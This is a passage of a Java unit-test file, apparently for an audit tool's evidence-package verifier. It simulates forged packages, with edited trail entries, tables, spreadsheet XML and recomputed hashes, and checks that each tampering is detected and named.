package app.assay.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import app.assay.domain.record.RecordKind;
import app.assay.domain.record.RecordState;
import app.assay.domain.trail.TrailChain;
import app.assay.domain.trail.TrailEvent;
import app.assay.files.Hashes;
import app.assay.files.Json;
import app.assay.reporting.content.EvidenceContent;
import app.assay.reporting.pack.EvidencePackage;
import app.assay.reporting.pack.EvidencePackageTest;
import app.assay.reporting.pack.TrailLines;
import app.assay.reporting.position.Legend;
import app.assay.reporting.position.PackageWords;
import app.assay.reporting.verify.PackageVerifier;
import app.assay.reporting.verify.PackageVerifierTest;
import app.assay.reporting.verify.VerificationReport;
import app.assay.reporting.verify.VerificationReport.Finding;
import app.assay.reporting.verify.VerificationReport.Kind;
import app.assay.work.Progress;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/// Packages in which one thing was changed and everything that lists or hashes it was made anew, as a careful forger
/// would: manifests, tag manifest, size and the index for machines.
class ForgedPackageTest {

    private static final String TRAIL = "data/90_provenance/trail.jsonl";
    private static final String ELP = "data/20_position/elp.csv";

    @TempDir
    static Path shared;

    private static Path good;

    @TempDir
    Path folder;

    private Path top = Path.of("");

    @BeforeAll
    static void write() throws IOException {
        good = shared.resolve("good.zip");
        try (var out = Files.newOutputStream(good)) {
            EvidencePackage.write(ExampleContent.standard(), out, Progress.NONE);
        }
    }

    @BeforeEach
    void unpack() throws IOException {
        top = EvidencePackageTest.unpack(good, folder);
        assertThat(verify().findings()).isEmpty();
    }

    @Test
    void makingEverythingAnewWithoutAChangeIsSound() throws IOException {
        forge(ELP, text -> text);
        assertThat(verify().findings()).isEmpty();
    }

    @Test
    void anEntryOfTheTrailWhoseTextWasChangedIsNamed() throws IOException {
        forge(TRAIL, text -> text.replace("Device PC 2", "Device PC 9"));
        assertThat(verify().findings()).singleElement().satisfies(finding -> {
            assertThat(finding.kind()).isEqualTo(Kind.TRAIL);
            assertThat(finding.reason()).contains("Event 2 was changed");
        });
    }

    @Test
    void aTrailWhoseHashesWereAllMadeAnewDoesNotEndAsThePackageSays() throws IOException {
        forge(TRAIL, text -> {
            var lines = new ArrayList<String>();
            String previous = TrailChain.BEGINNING;
            for (String line :
                    text.replace("Device PC 2", "Device PC 9").lines().toList()) {
                var node = (ObjectNode) new JsonMapper().readTree(line);
                node.put("previousHash", previous);
                previous = TrailChain.hash(TrailLines.parse(node));
                node.put("hash", previous);
                lines.add(node.toString());
            }
            return String.join("\n", lines) + "\n";
        });
        assertThat(reasons()).anyMatch(reason -> reason.contains("bag-info.txt says 4 with another end"));
    }

    @ParameterizedTest
    @CsvSource({
        "20_position/elp.csv, MIDDLE",
        "20_position/bridge.csv, 'stale'",
        "20_position/rights.csv, 'E-'",
    })
    void aChangedTableOfThePositionNoLongerYieldsItsDigest(String table, String what) throws IOException {
        forge(
                "data/" + table,
                text -> what.equals("MIDDLE")
                        ? text.replaceFirst("\"SHORT\"", "\"COMPLIANT\"")
                        : text.replaceFirst(what, "Z" + what));
        assertThat(verify().findings())
                .filteredOn(finding -> finding.path().equals(ELP))
                .extracting(Finding::reason)
                .anyMatch(reason -> reason.contains("digest of the position"));
    }

    @Test
    void aStepOfTheBridgeThatItsLineDoesNotYieldIsNamedByCell() throws IOException {
        forge("data/20_position/bridge.csv", text -> text.replaceFirst("(?m)(\"covered\",\"\",)-?[0-9]+", "$1-77777"));
        assertThat(verify().findings())
                .filteredOn(finding -> finding.path().endsWith("bridge.csv"))
                .extracting(Finding::reason)
                .anyMatch(reason -> reason.contains("it says -77777, and the position yields"));
    }

    @Test
    void aFigureOfATableThatTheWorkbookDoesNotShowIsNamedByCell() throws IOException {
        forge(ELP, text -> text.replaceFirst("EUR,\"", "EUR,\"").replaceFirst("([0-9.]+) EUR", "99999.5 EUR"));
        assertThat(reasons()).anyMatch(reason -> reason.contains("Sheet Position") && reason.contains("99999.5"));
    }

    @Test
    void aFigureOfTheWorkbookThatTheTablesDoNotYieldIsNamedByCell() throws IOException {
        workbook("xl/worksheets/sheet2.xml", xml -> xml.replaceFirst("</f><v>[0-9.]+</v>", "</f><v>12345</v>"));
        assertThat(verify().findings()).singleElement().satisfies(finding -> {
            assertThat(finding.kind()).isEqualTo(Kind.DIFFERS);
            assertThat(finding.path()).isEqualTo("data/20_position/ELP.xlsx");
            assertThat(finding.reason()).contains("Sheet Position, row 2").contains("it shows 12345");
        });
    }

    @ParameterizedTest
    @CsvSource({
        "sheet1.xml, Position digest",
        "sheet2.xml, its formula is not the one",
        "sheet3.xml, Sheet Bridge",
        "sheet4.xml, Sheet Consumption",
        "sheet5.xml, Sheet Not counted",
        "sheet6.xml, Sheet Entitlement detail",
        "sheet7.xml, Sheet Assumptions"
    })
    void aChangeInAnySheetIsNamed(String sheet, String named) throws IOException {
        workbook("xl/worksheets/" + sheet, xml -> {
            if (sheet.equals("sheet2.xml")) {
                return xml.replaceFirst("<f>J2-K2</f>", "<f>J2-K2+1</f>");
            }
            if (sheet.equals("sheet1.xml")) {
                return xml.replaceFirst("(Position digest</t></is></c><c[^>]*><is><t[^>]*>)[0-9a-f]", "$1z");
            }
            // The first text of the second row.
            int row = xml.indexOf("<row r=\"2\"");
            return row < 0 ? xml : xml.substring(0, row) + xml.substring(row).replaceFirst("(<t [^>]*>)", "$1forged ");
        });
        assertThat(reasons()).anyMatch(reason -> reason.contains(named));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "sheet2.xml | (<c r=\"M2\"[^>]*><f>[^<]*</f><v>)[0-9.]+ | $1123 | Counted in Consumption",
                "sheet2.xml | (<c r=\"T2\"[^>]*><f>[^<]*</f><v>)[-0-9.]+ | $19 | Balance (% of net)",
                "sheet2.xml | (<c r=\"AE2\"[^>]*><f>[^<]*</f><v>)ok | $1look | Check",
                "sheet2.xml | (<c r=\"AE2\"[^>]*><f>)[^<]* | $1\"ok\" | Check: its formula is not the one",
                "sheet2.xml | (<c r=\"AF2\"[^>]*><is><t[^>]*>[^<]*) | $1 All agreed. | Remark",
                "sheet6.xml | (<c r=\"W2\"[^>]*><is><t[^>]*>)[^<]* | $17 Nothing | Proof",
                "sheet6.xml | (<c r=\"X2\"[^>]*><is><t[^>]*>)[^<]* | $1other.pdf | Documents",
                "sheet6.xml | In no line of this position | Used up | Not usable because",
                "sheet1.xml | (>Organisation<.*?<t[^>]*>)[^<]* | $1Other | Sheet Cover, row 5, Organisation",
                "sheet1.xml | (>Prepared by<.*?<t[^>]*>)[^<]* | $1Other | Prepared by",
                "sheet1.xml | (>As at<.*?<v>)[0-9]+ | $11 | As at",
                "sheet8.xml | Nobody told how many | None | Sheet Legend",
            })
    void noCellOfTheWorkbookIsComparedWithItself(String sheet, String what, String with, String named)
            throws IOException {
        workbook("xl/worksheets/" + sheet, xml -> xml.replaceFirst("(?s)" + what, with));
        assertThat(reasons()).isNotEmpty().allMatch(reason -> reason.contains(named));
    }

    /// What a spreadsheet shows otherwise than it stands in the cells that are compared.
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "xl/workbook.xml | name=\"Position\" sheetId=\"2\" | name=\"Position\" state=\"hidden\" sheetId=\"2\"",
                "xl/workbook.xml | r:id=\"rId2\"/> | r:id=\"rId3\"/>",
                "xl/workbook.xml | </sheets> | <sheet name=\"More\" sheetId=\"9\" r:id=\"rId3\"/></sheets>",
                "xl/_rels/workbook.xml.rels | worksheets/sheet2.xml | worksheets/sheet3.xml",
                "[Content_Types].xml | worksheet[+]xml | chartsheet+xml",
                "xl/styles.xml | formatCode=\"#,##0\" | formatCode=\"0;0;0\"",
                "xl/styles.xml | FF1F2328 | FFFFFFFF",
                "xl/styles.xml | </cellXfs> | <xf/></cellXfs>",
                "xl/worksheets/sheet2.xml | <row r=\"2\" | <row r=\"2\" hidden=\"1\"",
                "xl/worksheets/sheet2.xml | <row r=\"2\" | <row r=\"2\" ht=\"1\" customHeight=\"1\"",
                "xl/worksheets/sheet2.xml | <col min=\"2\" | <col hidden=\"1\" min=\"2\"",
                "xl/worksheets/sheet2.xml | width=\"26\" | width=\"0\"",
                "xl/worksheets/sheet2.xml | <sheetData> | <sheetData><row r=\"1\"/>",
                "xl/worksheets/sheet2.xml | </sheetData> | </sheetData><mergeCells/>",
                "xl/worksheets/sheet2.xml | <v>1</v> | <v><![CDATA[1]]>1</v>",
                "xl/worksheets/sheet2.xml | <v>([0-9]+)</v></c> | <v>$1</v><is><t></t></is></c>",
                "xl/worksheets/sheet8.xml | Effective licence position | Other position",
                "xl/worksheets/sheet2.xml | (<c r=\"H2\" s=\")[0-9]+ | $10",
                "xl/worksheets/sheet6.xml | (<c r=\"O[2-9]\" s=\")[0-9]+ | $10",
                "xl/worksheets/sheet2.xml | >Covered . | >Needed (",
                "xl/worksheets/sheet3.xml | >Money< | >Units<",
                "xl/worksheets/sheet1.xml | >Effective licence position< | >Final licence position<",
                "xl/worksheets/sheet1.xml | >Lines by status< | >Lines<",
                "xl/worksheets/sheet1.xml | >Exposure< | >Surplus value<",
                "xl/worksheets/sheet1.xml | >Short lines without a price< | >Lines without a price<",
                "xl/worksheets/sheet1.xml | (>Organisation<.*?<t[^>]*>)[^<]* | $1*****",
                "xl/worksheets/sheet1.xml | (>Revision made .UTC.<.*?<v>)[0-9]+ | $140000",
                "xl/worksheets/sheet1.xml | COUNTIF.Position | COUNTIF(Position!A1)-COUNTIF(Position",
                "xl/worksheets/sheet1.xml | (<row r=\"5\">.*?)</row> | $1<c r=\"C5\" t=\"inlineStr\"><is><t>approved</t></is></c></row>",
                "xl/worksheets/sheet1.xml | <row r=\"3\"></row> | <row r=\"3\"><c r=\"A3\" t=\"inlineStr\"><is><t>Approved</t></is></c></row>",
                "xl/worksheets/sheet1.xml | </sheetData> | <row r=\"48\"><c r=\"A48\" t=\"inlineStr\"><is><t>Approved</t></is></c></row></sheetData>",
            })
    void whatAWorkbookWouldShowOtherwiseIsFound(String part, String what, String with) throws IOException {
        workbook(part, xml -> xml.replaceFirst("(?s)" + what, with));
        assertThat(verify().findings())
                .isNotEmpty()
                .allMatch(finding -> finding.path().equals("data/20_position/ELP.xlsx"));
    }

    @Test
    void aSheetBesideThoseOfAPackageIsFound() throws IOException {
        Path book = top.resolve("data/20_position/ELP.xlsx");
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipFile(book.toFile());
                var made = new ZipOutputStream(out)) {
            for (var entry : zip.stream().toList()) {
                made.putNextEntry(new ZipEntry(entry.getName()));
                made.write(zip.getInputStream(entry).readAllBytes());
                made.closeEntry();
            }
            made.putNextEntry(new ZipEntry("xl/worksheets/sheet9.xml"));
            made.write(
                    zip.getInputStream(zip.getEntry("xl/worksheets/sheet2.xml")).readAllBytes());
            made.closeEntry();
        }
        forgeBytes("data/20_position/ELP.xlsx", out.toByteArray());
        assertThat(reasons()).anyMatch(reason -> reason.contains("its parts are not those of a workbook"));
    }

    @Test
    void twoRowsOfTheWorkbookDoNotLeanOnOneRight() throws IOException {
        var plain = ExampleContent.standard();
        var rights = new ArrayList<>(plain.records().of(RecordKind.ENTITLEMENT));
        rights.add(RecordState.of(
                RecordKind.ENTITLEMENT,
                ExampleContent.id("other spare"),
                Map.of("reference", "E-OTHER", "product", "acme/anvil", "metric", "device", "quantity", "9")));
        write(with(
                plain,
                kind -> kind == RecordKind.ENTITLEMENT
                        ? rights
                        : plain.records().of(kind),
                plain.redaction()));
        assertThat(verify().findings()).isEmpty();
        workbook("xl/worksheets/sheet6.xml", xml -> {
            int spare = xml.lastIndexOf("<row", xml.indexOf("E-SPARE"));
            int other = xml.lastIndexOf("<row", xml.indexOf("E-OTHER"));
            assertThat(spare).isLessThan(other);
            String number = xml.substring(other).replaceFirst("(?s)<row r=\"([0-9]+)\".*", "$1");
            String before = Integer.toString(Integer.parseInt(number) - 1);
            String copy = xml.substring(spare, other)
                    .replace("r=\"" + before + "\"", "r=\"" + number + "\"")
                    .replaceAll("r=\"([A-Z]+)" + before + "\"", "r=\"$1" + number + "\"");
            return xml.substring(0, other) + copy + xml.substring(xml.indexOf("</row>", other) + 6);
        });
        assertThat(reasons()).anyMatch(reason -> reason.contains("it shows E-SPARE, and the tables yield E-OTHER"));
    }

    @Test
    void aSheetThatSaysTooEarlyThatItIsFullHidesNothing() throws IOException {
        workbook("xl/worksheets/sheet4.xml", xml -> {
            int third = xml.indexOf("<row r=\"3\"");
            String cut = xml.substring(third, xml.indexOf("</row>", third) + 6)
                    .replaceFirst("(<c r=\"A3\"[^>]*><is><t[^>]*>)[^<]*", "$1…");
            return xml.substring(0, third) + cut + xml.substring(xml.lastIndexOf("</row>") + 6);
        });
        assertThat(reasons()).anyMatch(reason -> reason.contains("Consumption, row 3, Ref"));
    }

    @Test
    void aFileWhoseHashIsNotTheOneThatItsTableTellsIsNamed() throws IOException {
        String source = path("data/90_provenance/source-files/");
        forge(source, text -> text + "PC-9,Office\n");
        assertThat(verify().findings()).hasSize(2).first().satisfies(finding -> {
            assertThat(finding.path()).isEqualTo(source);
            assertThat(finding.reason()).contains("importlog.csv");
        });
    }

    @Test
    void aDocumentWhoseHashIsNotTheOneThatItsTableTellsIsNamed() throws IOException {
        String document = path("data/40_entitlement/documents/");
        forge(document, text -> text + "and more");
        assertThat(verify().findings()).singleElement().satisfies(finding -> {
            assertThat(finding.path()).isEqualTo(document);
            assertThat(finding.reason()).contains("documents.csv");
        });
    }

    @Test
    void aTwinForSpreadsheetsThatSaysSomethingElseIsNamed() throws IOException {
        forge("data/20_position/elp.spreadsheet.csv", text -> text.replaceFirst("\"SHORT\"", "\"COMPLIANT\""));
        assertThat(verify().findings()).singleElement().satisfies(finding -> {
            assertThat(finding.path()).isEqualTo("data/20_position/elp.spreadsheet.csv");
            assertThat(finding.reason()).contains("status");
        });
    }

    @Test
    void aRowThatWasTakenOutOfATableIsFoundByItsCount() throws IOException {
        for (String table : List.of("installs.csv", "installs.spreadsheet.csv")) {
            forge(
                    "data/30_deployment/" + table,
                    text -> text.substring(0, text.lastIndexOf('\n', text.length() - 2) + 1));
        }
        assertThat(verify().findings())
                .singleElement()
                .satisfies(finding ->
                        assertThat(finding.reason()).contains("24 rows").contains("package.json says 25"));
    }

    @ParameterizedTest
    @CsvSource({
        "Assay-Revision: 41, Assay-Revision: 42, revision",
        "Assay-Position-Digest: , Assay-Position-Digest: 00, positionDigest",
        "Assay-Trail-Length: 4, Assay-Trail-Length: 5, trailLength",
        "Assay-Register-Id: , Assay-Register-Id: 0, register"
    })
    void aChangedWordOfTheBagContradictsTheRest(String what, String with, String named) throws IOException {
        Path info = top.resolve("bag-info.txt");
        Files.writeString(info, Files.readString(info).replace(what.strip(), with.strip()));
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "bag-info.txt", "SHA-256");
        assertThat(reasons()).anyMatch(reason -> reason.contains(named));
    }

    @Test
    void aChangedFactOfTheRunNoLongerYieldsItsFingerprint() throws IOException {
        forge(
                "data/90_provenance/runfingerprint.json",
                text -> text.replace("\"staleAfterDays\": 90", "\"staleAfterDays\": 30"));
        assertThat(reasons())
                .anyMatch(reason -> reason.contains("fingerprint"))
                .anyMatch(reason -> reason.contains("digest"));
    }

    @Test
    void changedFiguresOfTheIndexForMachinesAreNamed() throws IOException {
        forge(
                "data/00_index/package.json",
                text -> text.replaceFirst("\"unrecognisedTitles\": 2", "\"unrecognisedTitles\": 0"));
        assertThat(reasons()).anyMatch(reason -> reason.contains("figures"));
    }

    @Test
    void aFileThatNoTableTellsOfIsNamed() throws IOException {
        Path added = top.resolve("data/90_provenance/source-files/0123456789ab_more.csv");
        Files.writeString(added, "x");
        list("data/90_provenance/source-files/0123456789ab_more.csv", "x");
        forge(ELP, text -> text);
        assertThat(reasons()).anyMatch(reason -> reason.contains("No table of the package tells of it"));
    }

    @Test
    void whatLiesBesideThePayloadIsNamedAsNotChecked() throws IOException {
        Files.createDirectories(top.resolve("signatures"));
        Files.writeString(top.resolve("signatures/tagmanifest-sha256.txt.p7s"), "x");
        Files.createDirectories(top.resolve("data/empty"));
        var report = verify();
        assertThat(report.sound()).isTrue();
        assertThat(report.notChecked())
                .extracting(VerificationReport.NotChecked::path)
                .containsExactly(
                        "data/30_deployment/",
                        "data/40_entitlement/",
                        "data/60_recognition/titles.csv",
                        "data/90_provenance/rejected.csv",
                        "data/empty/",
                        "signatures/tagmanifest-sha256.txt.p7s");
    }

    @Test
    void otherEndsOfLineInManifestsAreNoLayoutOfOurs() throws IOException {
        Path tags = top.resolve("tagmanifest-sha256.txt");
        Files.writeString(tags, Files.readString(tags).replace("\n", "\r\n"));
        assertThat(verify().findings()).singleElement().satisfies(finding -> {
            assertThat(finding.kind()).isEqualTo(Kind.PROFILE);
            assertThat(finding.path()).isEqualTo("tagmanifest-sha256.txt");
        });
    }

    @Test
    void anEventThatClaimsAMaskAndShowsNoneIsAChangedOne() throws IOException {
        forge(
                TRAIL,
                text -> text.replace("\"subject\":\"Device PC 2\"", "\"masked\":true,\"subject\":\"Device PC 9\""));
        assertThat(verify().findings())
                .singleElement()
                .satisfies(finding -> assertThat(finding.reason()).contains("Event 2 was changed"));
    }

    @Test
    void anEventThatAForgerMaskedIsNotAmongThoseThatThePackageCounts() throws IOException {
        forge(
                TRAIL,
                text -> text.replace("\"subject\":\"Device PC 2\"", "\"masked\":true,\"subject\":\"Device ***** 9\""));
        assertThat(reasons())
                .anyMatch(reason ->
                        reason.contains("1 event whose hash cannot be recomputed for a mask, and bag-info.txt"))
                .anyMatch(reason -> reason.contains("masked events of the trail are none")
                        && reason.contains("do not have their hash are 2"));
    }

    @Test
    void maskedEventsAreCountedAndNamedAndWhatTheySayOfRecordsIsCompared() throws IOException {
        top = masked("PC 3");
        var report = verify();
        assertThat(report.findings()).isEmpty();
        assertThat(report.information()).containsEntry("Assay-Trail-Masked", "1");
        assertThat(report.notChecked())
                .extracting(VerificationReport.NotChecked::reason)
                .anyMatch(
                        reason -> reason.contains("1 event shows secrets that are masked") && reason.contains(": 3."));
        forge(
                TRAIL,
                text -> text.replaceFirst(
                        "(\"subject\":\"Device \\*\\*\\*\\*\\*.*?\"existedBefore\":)false", "$1true"));
        assertThat(reasons()).anyMatch(reason -> reason.contains("Event 3 changes a record that was not as it says"));
    }

    @Test
    void aMaskInATableOfThePositionIsNoWayAroundItsDigest() throws IOException {
        forge(
                ELP,
                text -> text.replaceFirst("\"SHORT\"", "\"COMPLIANT\"")
                        .replaceFirst("(?m)^(\"E-2.1\",\"[^\"]*\",)\"[^\"]*\"", "$1\"*****\""));
        assertThat(Files.readString(top.resolve(ELP))).contains("*****");
        assertThat(reasons()).anyMatch(reason -> reason.contains("digest of the position"));
    }

    @Test
    void aPositionWithMaskedNamesIsRecomputedAsItIsShown() throws IOException {
        top = masked("Office");
        var report = verify();
        assertThat(Files.readString(top.resolve(ELP))).contains("*****").doesNotContain("Office");
        assertThat(Files.readString(top.resolve("data/00_index/index.html"))).doesNotContain("Office");
        assertThat(report.findings()).isEmpty();
        assertThat(report.notChecked())
                .extracting(VerificationReport.NotChecked::reason)
                .anyMatch(reason -> reason.contains("digest of the position itself was not recomputed"));
        Path info = top.resolve("bag-info.txt");
        String honest = Files.readString(info);
        Files.writeString(info, honest.replaceFirst("(?m)^Assay-Secrets: .*(\\n .*)*", "Assay-Secrets: none found"));
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "bag-info.txt", "SHA-256");
        assertThat(reasons()).anyMatch(reason -> reason.contains("digest of the position"));
        Files.writeString(info, honest);
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "bag-info.txt", "SHA-256");
        forge(ELP, text -> text.replaceFirst("\"SHORT\"", "\"COMPLIANT\""));
        assertThat(reasons()).anyMatch(reason -> reason.contains("digest of the position"));
    }

    @Test
    void aPageThatShowsSomethingElseThanTheTablesIsNamed() throws IOException {
        forge("data/00_index/index.html", text -> text.replaceFirst("lines are short", "lines are compliant"));
        assertThat(verify().findings())
                .singleElement()
                .satisfies(finding -> assertThat(finding.reason())
                        .contains("not the page that the tables and package.json yield")
                        .contains("lines are compliant"));
    }

    @Test
    void aDrawingThatThisMachineDoesNotMakeIsNamedAsNotChecked() throws IOException {
        forge("data/20_position/charts/bridge.svg", text -> text.replaceFirst("<svg ", "<svg  "));
        var report = verify();
        assertThat(report.findings()).isEmpty();
        assertThat(report.notChecked())
                .extracting(VerificationReport.NotChecked::path)
                .contains("data/20_position/charts/bridge.svg");
    }

    @Test
    void namesOfSourcesAreMaskedEverywhereAndComparedAsTheyAreShown() throws IOException {
        top = masked("GLPI");
        assertThat(Files.readString(top.resolve("data/90_provenance/runfingerprint.json")))
                .contains("***** head office")
                .doesNotContain("GLPI");
        var report = verify();
        assertThat(report.findings()).isEmpty();
        assertThat(report.notChecked())
                .anyMatch(each -> each.path().endsWith("sources.csv")
                        && each.reason().contains("secrets in names of sources are masked"));
        for (String table : List.of("importlog.csv", "importlog.spreadsheet.csv")) {
            forge("data/90_provenance/" + table, text -> text.replace("***** head", "***** other"));
        }
        assertThat(reasons()).anyMatch(reason -> reason.contains("are not the sources of runfingerprint.json"));
    }

    @Test
    void aFileWhoseNameHoldsASecretIsPackedUnderAMaskedOne() throws IOException {
        top = masked("Juni");
        assertThat(verify().findings()).isEmpty();
        try (var files = Files.walk(top)) {
            assertThat(files.map(Path::toString)).noneMatch(name -> name.contains("Juni"));
        }
    }

    @Test
    void aFileThatWasImportedAndAttachedTooCountsOnceThoughOnlyOneGoesAlong() throws IOException {
        var plain = ExampleContent.standard();
        var proofs = new ArrayList<>(plain.records().of(RecordKind.PROOF));
        proofs.add(RecordState.of(
                RecordKind.PROOF,
                ExampleContent.id("imported and attached"),
                Map.of(
                        "fileName",
                        "rights.csv",
                        "sha256",
                        plain.loads().getFirst().sha256(),
                        "grade",
                        "INVOICE_AND_PAYMENT")));
        EvidenceContent.Records records =
                kind -> kind == RecordKind.PROOF ? proofs : plain.records().of(kind);
        var hashesOfDocuments = new EvidenceContent.Choices(true, false, true);
        write(new EvidenceContent(
                plain.register(),
                plain.paper(),
                plain.catalogue(),
                hashesOfDocuments,
                plain.position(),
                plain.traces(),
                records,
                plain.meanings(),
                plain.tables(),
                plain.loads(),
                plain.trail(),
                plain.bytes(),
                new EvidenceContent.Redaction() {
                    @Override
                    public String text(String name, String text) {
                        return text;
                    }

                    @Override
                    public EvidenceContent.Look look(String sha256) {
                        return new EvidenceContent.Look("1 password", false, true);
                    }

                    @Override
                    public void mask(String sha256, java.io.OutputStream out) throws IOException {
                        out.write("*****".getBytes(StandardCharsets.UTF_8));
                    }
                },
                plain.assumptions()));
        assertThat(reasons()).noneMatch(reason -> reason.contains("Its secrets"));
    }

    @ParameterizedTest
    @CsvSource({"***** and more, true", "nothing to see, false"})
    void maskedCopiesAreNamedWhereverTheyStandAndShowAMask(String copy, boolean isSound) throws IOException {
        var plain = ExampleContent.standard();
        write(with(plain, plain.records(), new EvidenceContent.Redaction() {
            @Override
            public String text(String name, String text) {
                return text;
            }

            @Override
            public EvidenceContent.Look look(String sha256) {
                return new EvidenceContent.Look("1 password", false, true);
            }

            @Override
            public void mask(String sha256, java.io.OutputStream out) throws IOException {
                out.write(copy.getBytes(StandardCharsets.UTF_8));
            }
        }));
        var report = verify();
        assertThat(report.findings().isEmpty()).isEqualTo(isSound);
        if (isSound) {
            assertThat(report.notChecked())
                    .filteredOn(each -> each.reason().contains("copy with masked secrets"))
                    .extracting(VerificationReport.NotChecked::path)
                    .contains(path("data/40_entitlement/documents/"), path("data/90_provenance/source-files/"));
            Path info = top.resolve("bag-info.txt");
            Files.writeString(info, Files.readString(info).replace("3 files with secrets", "9 files with secrets"));
            PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "bag-info.txt", "SHA-256");
            forge("data/00_index/package.json", text -> text.replace("\"files\": 3", "\"files\": 9"));
            assertThat(reasons())
                    .anyMatch(reason ->
                            reason.contains("Its secrets, files: it says 9, and the tables of files yield 3"));
        } else {
            assertThat(reasons()).allMatch(reason -> reason.contains("holds fewer masks than"));
        }
    }

    @Test
    void masksThatThePackageDoesNotCountAreNamed() throws IOException {
        for (String table : List.of("titles.csv", "titles.spreadsheet.csv")) {
            forge("data/60_recognition/" + table, text -> text.replaceFirst("PC-1", "*****"));
        }
        assertThat(verify().notChecked()).anyMatch(each -> each.reason().contains("show 1 more masks"));
        forge("data/00_index/package.json", text -> text.replace("\"values\": 0", "\"values\": 7"));
        assertThat(reasons())
                .anyMatch(reason -> reason.contains("7 texts of tables and trail are masked, and 1 cells"));
    }

    @ParameterizedTest
    @CsvSource({
        "IT operations, IT, suppliedBy: it says IT",
        "2026-06-12, 2026-06-13, dataDate",
        "'INSTALLATIONS\",\"\"', 'INSTALLATIONS\",\"x\"', profile"
    })
    void theLogOfImportsSaysWhatTheTrailDoes(String what, String with, String named) throws IOException {
        var plain = ExampleContent.standard();
        var events = new ArrayList<TrailEvent>();
        String previous = TrailChain.BEGINNING;
        for (var load : plain.loads()) {
            String detail = Json.line(Map.of(
                    "load",
                    load.id().toString(),
                    "row",
                    Map.of(
                            "sha256", load.sha256(),
                            "supplied_by", load.suppliedBy(),
                            "data_date", load.dataDate().orElseThrow().toString(),
                            "profile", load.profile(),
                            "rows_read", Long.toString(load.balance().read()))));
            var event = new TrailEvent(
                    events.size() + 1,
                    ExampleContent.id("publish" + events.size()),
                    load.revision(),
                    ExampleContent.id("command" + events.size()),
                    ExampleContent.MADE,
                    "analyst",
                    "import.publish",
                    load.file(),
                    java.util.Optional.empty(),
                    "",
                    detail,
                    "0.1.0",
                    previous,
                    "");
            events.add(event.with(TrailChain.hash(event)));
            previous = events.getLast().hash();
        }
        write(new EvidenceContent(
                plain.register(),
                plain.paper(),
                plain.catalogue(),
                plain.choices(),
                plain.position(),
                plain.traces(),
                kind -> kind == RecordKind.PROOF ? List.of() : plain.records().of(kind),
                plain.meanings(),
                plain.tables(),
                plain.loads(),
                each -> events.forEach(each),
                plain.bytes(),
                plain.redaction(),
                plain.assumptions()));
        assertThat(verify().findings()).isEmpty();
        for (String table : List.of("importlog.csv", "importlog.spreadsheet.csv")) {
            forge("data/90_provenance/" + table, text -> text.replace(what, with));
        }
        assertThat(reasons()).anyMatch(reason -> reason.contains(named) && reason.contains("by the trail it is"));
    }

    @Test
    void theSourcesAreThoseOfTheLogOfImports() throws IOException {
        for (String table : List.of("sources.csv", "sources.spreadsheet.csv")) {
            forge("data/90_provenance/" + table, text -> text.replace("2026-06-12", "2026-06-29"));
        }
        assertThat(reasons())
                .singleElement()
                .asString()
                .contains("dataDate: it says 2026-06-29, and importlog.csv yields 2026-06-12");
    }

    @Test
    void whatAnAnalystMadeStandsInItsTableAsTheTrailSays() throws IOException {
        for (String table : List.of("documents.csv", "documents.spreadsheet.csv")) {
            forge("data/40_entitlement/" + table, text -> text.replace("INVOICE_AND_PAYMENT", "CERTIFICATE"));
        }
        assertThat(reasons())
                .anyMatch(reason -> reason.contains(
                        "grade: it says CERTIFICATE, and by the trail it was made INVOICE_AND_PAYMENT"));
    }

    @Test
    void ownRecordsThatTheTrailDoesNotKnowAreNamed() throws IOException {
        for (String table : List.of("products.csv", "products.spreadsheet.csv")) {
            boolean isTwin = table.contains("spreadsheet");
            forge(
                    "data/60_recognition/" + table,
                    text -> text + "\"0b0c2f3e-0000-4000-8000-000000000001\",\"acme/free\",\"{}\""
                            + (isTwin ? ",\n" : "\n"));
        }
        assertThat(reasons()).anyMatch(reason -> reason.contains("which nobody made by the trail"));
    }

    @Test
    void whatARightMeansAgreesWithWorkbookAndPosition() throws IOException {
        for (String table : List.of("entitlements.csv", "entitlements.spreadsheet.csv")) {
            forge("data/40_entitlement/" + table, text -> text.replaceFirst("\"KNOWN\"", "\"WAITING\""));
        }
        assertThat(reasons())
                .anyMatch(reason -> reason.contains("1 for rights-waiting, and the position says 0"))
                .anyMatch(reason -> reason.contains("is said to give nothing: WAITING"))
                .anyMatch(reason -> reason.contains("Entitlement detail") && reason.contains("Recognition"));
    }

    @Test
    void leavingOutTheFormatIsNoWayAroundTheDigest() throws IOException {
        Path info = top.resolve("bag-info.txt");
        Files.writeString(info, Files.readString(info).replace("Assay-Package-Format: 2\n", ""));
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "bag-info.txt", "SHA-256");
        assertThat(reasons()).anyMatch(reason -> reason.contains("holds what only later formats hold"));
    }

    @Test
    void aFormatThatIsNotKnownHereIsRefused() throws IOException {
        Path info = top.resolve("bag-info.txt");
        Files.writeString(
                info, Files.readString(info).replace("Assay-Package-Format: 2\n", "Assay-Package-Format: 9\n"));
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "bag-info.txt", "SHA-256");
        assertThat(reasons()).anyMatch(reason -> reason.contains("format 9, which is not known here"));
    }

    @Test
    void aPackageThatNoLongerSaysWhereItsTrailEndsIsNone() throws IOException {
        forge(
                "data/90_provenance/runfingerprint.json",
                text -> text.replaceAll("(?m)^ *\"trail(Length|Head)\":.*\\n", ""));
        assertThat(reasons())
